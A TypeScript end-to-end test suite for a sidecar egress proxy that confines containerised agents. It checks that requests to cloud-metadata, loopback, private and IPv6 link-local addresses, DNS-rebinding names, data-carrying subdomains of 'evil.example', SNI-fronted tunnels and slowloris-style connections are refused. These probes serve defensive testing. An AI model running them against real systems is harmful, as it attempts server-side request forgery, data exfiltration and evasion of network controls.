import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import { networkInterfaces } from 'node:os'
import type Docker from 'dockerode'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { classify } from '../../daemon/kernel/outbound/addresses.ts'
import { launch } from '../../daemon/runtime/docker/exec.ts'
import { labels, networkName } from '../../daemon/runtime/docker/names.ts'
import { crewSpec, newId } from '../daemon/runtime/runtime-contract.ts'
import { attempt, node, policy, sh, who } from '../e2e/egress/street.ts'
import { engine, engineMissing } from '../support/engine.ts'
import { type EngineCrew, type EngineCrews, engineCrews } from '../support/engine-crews.ts'
import { leaveOut } from '../support/leave-out.ts'
import { openNameServer, type Zone } from '../support/name-server.ts'

leaveOut(engineMissing)

const through = /connected|answered|sent|opened/
const realKey = 'sk-real-47c1f0a2b9'
const prefix = 'muster-attack'
const tls = (name: string) => readFileSync(new URL(`../fixtures/tls/${name}`, import.meta.url), 'utf8')

/**
 * A machine that the outside world stands for: its addresses count as public. Echoes headers at 8000, over TLS at 8443.
 */
const outside = `
  const answer = (req, res) => res.end(JSON.stringify({ host: req.headers.host, key: req.headers['x-api-key'] }))
  const http = require('http').createServer(answer)
  const https = require('https').createServer({ key: process.env.KEY, cert: process.env.CERT }, answer)
  const mail = require('net').createServer((s) => s.on('error', () => {}).write('220 ready\\r\\n'))
  http.listen(8000, '::', () => https.listen(8443, '::', () => mail.listen(2525, '::', () =>
    console.log('listening'))))`

let crews: EngineCrews
/** On a network as the runtime makes it. */
let plain: EngineCrew
/** On a network with IPv6, as an operator or an engine could have made it. */
let six: EngineCrew
let peer: { container: Docker.Container; four: string; six: string }
const zone: Zone = {}
let names: Awaited<ReturnType<typeof openNameServer>>
const closing: (() => unknown)[] = []

beforeAll(async () => {
  crews = await engineCrews(prefix)
  names = await openNameServer('0.0.0.0', zone)
  const sixSpec = crewSpec({ slug: 'six' })
  const network = await engine.createNetwork({
    Name: networkName(crews, sixSpec.crewId),
    EnableIPv6: true,
    IPAM: { Config: [{ Subnet: '11.37.19.0/24' }, { Subnet: `2600:1f37:${newId('').slice(0, 4)}::/64` }] },
    Labels: { [labels.installation]: crews.installation, [labels.crew]: sixSpec.crewId },
  })
  six = await crews.open(sixSpec)
  const served =
    "require('http').createServer((_, res) => res.end('inside')).listen(8000, " +
    "'::', () => console.log('listening'))"
  await launch(six.crew, { user: who.bob, argv: ['node', '-e', served] }, 'listening')
  plain = await crews.open({ slug: 'plain' })
  const container = await engine.createContainer({
    Image: 'muster/crew:local',
    User: '0:0',
    Entrypoint: ['sleep', 'infinity'],
    Env: [`KEY=${tls('localhost.key')}`, `CERT=${tls('localhost.crt')}`],
    Labels: { [labels.installation]: crews.installation },
    HostConfig: { NetworkMode: network.id, Init: true },
  })
  await container.start()
  await launch(container, { user: who.root, argv: ['node', '-e', outside] }, 'listening')
  await network.connect({ Container: plain.sidecar.id })
  const { IPAddress, GlobalIPv6Address } = (await container.inspect()).NetworkSettings.Networks[
    networkName(crews, sixSpec.crewId)
  ]!
  peer = { container, four: IPAddress, six: GlobalIPv6Address }
  for (const host of ['permitted.example', 'other.example', 'deep.wide.example']) zone[host] = { a: peer.four }
})

afterAll(async () => {
  for (const close of [...closing, () => names?.close()]) close()
  await crews?.close()
})

const networkOf = async (crew: EngineCrew) =>
  (await crew.sidecar.inspect()).NetworkSettings.Networks[networkName(crews, crew.spec.crewId)]!

/** Gives a crew its policy, with the test's own name server. */
async function allow(crew: EngineCrew, mode: 'restricted' | 'free', allowedDomains: string[] = []): Promise<void> {
  const config = policy(allowedDomains, false, { resolvers: [`${(await networkOf(crew)).Gateway}:${names.port}`] })
  config.network.mode = mode
  config.agents['dummy-ada']!.credentials.push({
    credentialId: 'c1',
    provider: 'ANTHROPIC',
    kind: 'api_key',
    token: realKey,
    priority: 1,
  })
  await crews.runtime.configureSidecar(crew.spec.crewId, config)
}

/** The status with which the proxy answers each request for a tunnel. */
async function tunnels(
  crew: EngineCrew,
  authorities: string[],
  user: string = who.ada,
): Promise<Record<string, string>> {
  const code = `const ask = (it) => new Promise((done) => {
      const s = require('net').connect(9119, '127.0.0.1').on('error', () => done('closed'));
        s.write('CONNECT ' + it + ' HTTP/1.1\\r\\n\\r\\n')
      s.once('data', (d) => { done(String(d).slice(9, 12)); s.destroy() }) })
    ;(async () => { const out = {}; for (const it of ${JSON.stringify(authorities)}) out[it] = await ask(it);
      console.log(JSON.stringify(out)) })()`
  return JSON.parse(await node(crew.crew, user, code))
}

const all = (names: string[], how: string) => Object.fromEntries(names.map((it) => [it, how]))

/** curl through the proxy, as an agent. */
const curl = (crew: EngineCrew, args: string) =>
  sh(crew.crew, who.ada, `curl -sk -m 20 -x http://127.0.0.1:9119 ${args}`)

describe.skipIf(engineMissing)('free mode', () => {
  beforeAll(() => allow(plain, 'free'))

  it('leads to public places by name and by address, through the sidecar alone', async () => {
    expect(await tunnels(plain, ['permitted.example:8000', `${peer.four}:8443`])).toEqual(
      all(['permitted.example:8000', `${peer.four}:8443`], '200'),
    )
    expect((await curl(plain, 'http://permitted.example:8000/')).stdout).toBe('{"host":"permitted.example:8000"}')
    const direct = [
      `tcp ${peer.four} 8000`,
      `udp ${peer.four} 8000`,
      `dns ${peer.four} 53`,
      `tcp-by-lo ${peer.four} 8000`,
    ]
    expect(await attempt(plain.sidecar, who.sidecar, [direct[0]!])).toEqual(all([direct[0]!], 'connected'))
    for (const user of [who.ada, who.root, who.watcher]) {
      expect(Object.values(await attempt(plain.crew, user, direct)).filter((it) => through.test(it))).toEqual([])
    }
  })

  it(
    'leads to nothing private: the machine and its services, networks ' + 'beside, metadata, loopback, multicast',
    async () => {
      const heard: string[] = []
      const tcp = createServer((socket) => heard.push(`${socket.remoteAddress}`) && socket.destroy()).listen(
        0,
        '0.0.0.0',
      )
      closing.push(() => tcp.close())
      await once(tcp, 'listening')
      const { port } = tcp.address() as AddressInfo
      const own = await networkOf(plain)
      const machine = Object.values(networkInterfaces()).flatMap((list) =>
        list!.filter((it) => it.family === 'IPv4' && !it.internal).map((it) => it.address),
      )
      const inward = [
        ...machine.filter((it) => classify(it) !== 'public'),
        own.Gateway,
        own.IPAddress,
        'host.docker.internal',
        '172.17.0.1',
        '192.168.0.1',
        '100.64.0.1',
      ]
      const never = [
        '169.254.169.254',
        '168.63.129.16',
        '127.0.0.1',
        'localhost',
        '0.0.0.0',
        '224.0.0.1',
        '255.255.255.255',
        '[::1]',
      ]
      const sixes = [
        `[::ffff:${own.Gateway}]`,
        `[64:ff9b::${own.Gateway}]`,
        '[fd00::1]',
        '[fe80::1]',
        '[ff02::1]',
        '[fd00:ec2::254]',
        '[2002:a00:1::]',
        '[::]',
      ]
      const targets = [...new Set([...inward, ...never, ...sixes])].map((it) => `${it}:${port}`)
      expect(await tunnels(plain, targets)).toEqual(all(targets, '403'))
      expect(await tunnels(plain, ['127.0.0.11:53', '127.0.0.1:9119'])).toEqual({
        '127.0.0.11:53': '403',
        '127.0.0.1:9119': '403',
      })
      expect((await curl(plain, `-o /dev/null -w '%{http_code}' http://${own.Gateway}:${port}/`)).stdout).toBe('403')
      expect(heard).toEqual([])
    },
  )

  it('is not led there by names, not even by one that changes its mind', async () => {
    const { Gateway } = await networkOf(plain)
    Object.assign(zone, {
      'inward.example': { a: Gateway },
      'metadata.example': { a: '169.254.169.254' },
      'mapped.example': { aaaa: '00000000000000000000ffff0a000001' },
    })
    expect(await tunnels(plain, ['inward.example:80', 'metadata.example:80', 'mapped.example:80'])).toEqual(
      all(['inward.example:80', 'metadata.example:80', 'mapped.example:80'], '403'),
    )
    zone['turning.example'] = { a: peer.four }
    expect(await tunnels(plain, ['turning.example:8000'])).toEqual({ 'turning.example:8000': '200' })
    zone['turning.example'] = { a: Gateway }
    expect(await tunnels(plain, ['turning.example:8000'])).toEqual({ 'turning.example:8000': '403' })
  })

  it('leads into no other crew', async () => {
    const { IPAddress, GlobalIPv6Address } = await networkOf(six)
    const targets = [`${IPAddress}:8000`, `${IPAddress}:9119`, `[${GlobalIPv6Address}]:8000`]
    expect(await tunnels(plain, targets)).toEqual(all(targets, '504')) // not even told that it is closed
  })

  it('puts a real key into nothing that passes', async () => {
    const headers = `-H 'x-api-key: dummy-ada' -H 'authorization: Bearer dummy-ada'`
    expect((await curl(plain, `${headers} http://permitted.example:8000/v1/messages`)).stdout).toBe(
      '{"host":"permitted.example:8000","key":"dummy-ada"}',
    )
    expect((await curl(plain, `${headers} https://permitted.example:8443/v1/messages`)).stdout).toBe(
      '{"host":"permitted.example:8443","key":"dummy-ada"}',
    )
  })
})

describe.skipIf(engineMissing)('a crew network with IPv6', () => {
  beforeAll(() => allow(six, 'free'))

  it('is not what the runtime makes', async () => {
    const { EnableIPv6 } = await engine.getNetwork(networkName(crews, plain.spec.crewId)).inspect()
    expect(EnableIPv6).toBe(false)
  })

  it('lets nobody out but the sidecar', async () => {
    const { GlobalIPv6Address, IPv6Gateway } = await networkOf(six)
    expect(GlobalIPv6Address).toMatch(/^2600:1f37:/)
    const ways = [
      `tcp ${peer.six} 8000`,
      `udp ${peer.six} 8000`,
      `tcp ${IPv6Gateway} 22`,
      `udp ${IPv6Gateway} 53`,
      `dns ${peer.six} 53`,
      `tcp-by-lo ${peer.six} 8000`,
    ]
    const links = [
      'udp ff02::1%eth0 9',
      'udp ff02::2%eth0 9',
      'udp fe80::1%eth0 9',
      'tcp fe80::1%eth0 80',
      'udp ff05::1:3%eth0 547',
    ]
    // Once its address is settled.
    await expect.poll(async () => (await attempt(six.sidecar, who.sidecar, [ways[0]!]))[ways[0]!]).toBe('connected')
    for (const user of [who.ada, who.root, who.watcher]) {
      expect(
        Object.entries(await attempt(six.crew, user, [...ways, ...links])).filter(([, how]) => through.test(how)),
      ).toEqual([])
    }
    // Where the list of system calls does not help: a stranger in the sidecar's own container.
    expect(
      Object.values(await attempt(six.sidecar, who.ada, [`ping ${peer.six}`, `udplite ${peer.six} 9`])).filter(
        (it) => it === 'answered',
      ),
    ).toEqual([])
  })

  it('lets nobody in', async () => {
    const { GlobalIPv6Address } = await networkOf(six)
    expect((await sh(six.crew, who.ada, `curl -sg 'http://[${GlobalIPv6Address}]:8000/'`)).stdout).toBe('inside')
    const ways = [`tcp ${GlobalIPv6Address} 8000`, `tcp ${GlobalIPv6Address} 9119`, `ping ${GlobalIPv6Address}`]
    expect(
      Object.values(await attempt(peer.container, who.root, ways)).filter((it) => /connected|answered/.test(it)),
    ).toEqual([])
  })

  it('is under the same policy', async () => {
    const permitted = [`[${peer.six}]:8000`, `${peer.four}:8000`]
    expect(await tunnels(six, permitted)).toEqual(all(permitted, '200'))
    const { GlobalIPv6Address } = await networkOf(six)
    const refused = [`[${GlobalIPv6Address}]:9119`, '[::1]:9119', '[fe80::1]:80', '[ff02::1]:80', '[fd00::2]:22']
    expect(await tunnels(six, refused)).toEqual(all(refused, '403'))
    await allow(six, 'restricted')
    expect(await tunnels(six, permitted)).toEqual(all(permitted, '403'))
  })
})

describe.skipIf(engineMissing)('a server name that is not the tunnel’s host', () => {
  beforeAll(() => allow(plain, 'restricted', ['permitted.example', 'other.example', peer.four]))

  it('ends the tunnel, and a manager reads of both', async () => {
    expect((await curl(plain, 'https://permitted.example:8443/')).stdout).toBe('{"host":"permitted.example:8443"}')
    expect((await curl(plain, `https://${peer.four}:8443/`)).stdout).toBe(`{"host":"${peer.four}:8443"}`)
    plain.reports.length = 0
    const fronted = await curl(
      plain,
      '--connect-to forbidden.example:443:permitted.example:8443 https://forbidden.example/',
    )
    expect(fronted).toMatchObject({ code: 35, stdout: '' }) // a TLS handshake that failed
    await curl(plain, `--connect-to other.example:443:permitted.example:8443 https://other.example/`)
    await curl(plain, `--connect-to other.example:443:${peer.four}:8443 https://other.example/`)
    const denied = (host: string, name: string) => ({
      type: 'egress_denied',
      agentId: 'agent-ada',
      host,
      port: 8443,
      reason: `a TLS client in a tunnel to ${host} asks for ${name}`,
      unreported: expect.any(Number),
    })
    await expect
      .poll(() => plain.reports)
      .toEqual([denied('permitted.example', 'forbidden.example'), denied(peer.four, 'other.example')])
  })

  it('is looked for in TLS only: a server that speaks first is heard', async () => {
    const code = `const s = require('net').connect(9119, '127.0.0.1'); let got = '';
      s.write('CONNECT permitted.example:2525 HTTP/1.1\\r\\n\\r\\n')
      s.on('data', (d) => { got += d; if (/ready/.test(got)) { console.log(got.split('\\r\\n').at(-2));
        s.destroy() } })`
    expect(await node(plain.crew, who.ada, code)).toBe('220 ready\n')
  })
})

describe.skipIf(engineMissing)('names that carry data', () => {
  beforeAll(() => allow(plain, 'restricted', ['*.wide.example', 'permitted.example']))

  it('reach no name server that an agent asks by itself', async () => {
    names.asked.length = 0
    const { Gateway } = await networkOf(plain)
    for (const user of [who.ada, who.root]) {
      const ways = ['127.0.0.11', Gateway, peer.four, '8.8.8.8'].flatMap((it) => [
        `dns ${it} 53`,
        `dnstcp ${it} 53`,
        `dns ${it} ${names.port}`,
      ])
      expect(Object.values(await attempt(plain.crew, user, ways)).filter((it) => through.test(it))).toEqual([])
    }
    const looked = await sh(
      plain.crew,
      who.ada,
      'getent hosts data.evil.example || echo none; curl -s http://data2.evil.example/ || echo none',
    )
    expect(looked.stdout).toBe('none\nnone\n')
    expect(names.asked).toEqual([])
  })

  it('are never asked for when the policy refuses them', async () => {
    names.asked.length = 0
    const refused = [
      'data.evil.example:443',
      'data.permitted.example:443',
      'wide.example:443',
      'data.wide.example.evil.example:443',
    ]
    expect(await tunnels(plain, refused)).toEqual(all(refused, '403'))
    expect((await curl(plain, '-o /dev/null -w "%{http_code}" http://data.evil.example/')).stdout).toBe('403')
    expect(names.asked).toEqual([])
    expect(await tunnels(plain, ['permitted.example:8000'])).toEqual({ 'permitted.example:8000': '200' })
    expect(names.asked).toEqual(['permitted.example', 'permitted.example']) // A and AAAA
  })

  it('are few and short below a wildcard, and the rest is reported', async () => {
    names.asked.length = 0
    plain.reports.length = 0
    const wanted = Array.from({ length: 60 }, (_, index) => `chunk${index}.wide.example:443`)
    const long = `${'d'.repeat(60)}.${'d'.repeat(60)}.wide.example:443`
    const out = await tunnels(plain, [...wanted, long], who.bob)
    const asked = [...new Set(names.asked)].map((name) => `${name}:443`)
    expect(out[long]).toBe('403')
    // Thirty, and what a minute gives back while the test runs, which may be after some were refused.
    expect(asked.length).toBeLessThanOrEqual(35)
    expect(asked.slice(0, 30)).toEqual(wanted.slice(0, 30))
    expect(wanted).toEqual(expect.arrayContaining(asked))
    expect(Object.values(out).filter((it) => it === '403')).toHaveLength(61 - asked.length)
    await expect.poll(() => plain.reports.length).toBeGreaterThan(0)
    expect(plain.reports[0]).toMatchObject({
      type: 'egress_denied',
      agentId: 'agent-bob',
      reason: expect.stringContaining('new names below wildcards'),
    })
    // Those of another agent are not used up.
    expect(await tunnels(plain, ['deep.wide.example:8000'])).toEqual({ 'deep.wide.example:8000': '200' })
  })
})

describe.skipIf(engineMissing)('connections that say little', () => {
  it('end within their time, and leave room for others', async () => {
    await allow(plain, 'restricted', ['permitted.example'])
    const code = `const net = require('net'), lives = {}
      const open = (name, bytes, then) => new Promise((done) => {
        const at = Date.now(), s = net.connect(9119, '127.0.0.1')
        const drip = then && setInterval(() => s.writable && s.write(then), 1000)
        s.on('error', () => {}).resume().on('close', () => { clearInterval(drip); lives[name] = Date.now() - at;
          done() }); s.write(bytes) })
      const silent = Array.from({ length: 500 }, (_, n) => open('silent ' + n, ''))
      Promise.all([...silent, open('slow header', 'GET /health HTTP/1.1\\r\\n', 'x-a: b\\r\\n'),
        open('slow line', 'GET /he', 'a'),
        open('slow connect', 'CONNECT permitted.example:8000 HTTP/1.1\\r\\n', 'x-a: b\\r\\n'),
        open('blank lines', '\\r\\n', '\\r\\n'),
        open('second request', 'GET /health HTTP/1.1\\r\\nhost: ' +
          'a\\r\\n\\r\\nGET /he', 'a'), open('proxied', 'GET http://permitted.example/ HTTP/1.1\\r\\n', 'x-a: b\\r\\n'),
      ]).then(() => console.log(JSON.stringify(lives)))`
    const lives = node(plain.crew, who.ada, code)
    const health = `curl -s -m 5 http://127.0.0.1:9119/health`
    await expect
      .poll(async () =>
        (await sh(plain.sidecar, who.sidecar, "grep -c ' 0100007F:239F .* 01 ' /proc/net/tcp")).stdout.trim(),
      )
      .toMatch(/^[45]\d\d$/)
    expect((await sh(plain.crew, who.bob, health)).stdout).toBe('{"ok":true,"configured":true}')
    const durations = Object.values(JSON.parse(await lives) as Record<string, number>)
    expect(durations).toHaveLength(506)
    // 20 s, a second until it is seen, and what a busy machine takes.
    expect(Math.max(...durations)).toBeLessThan(24_000)
  })
})
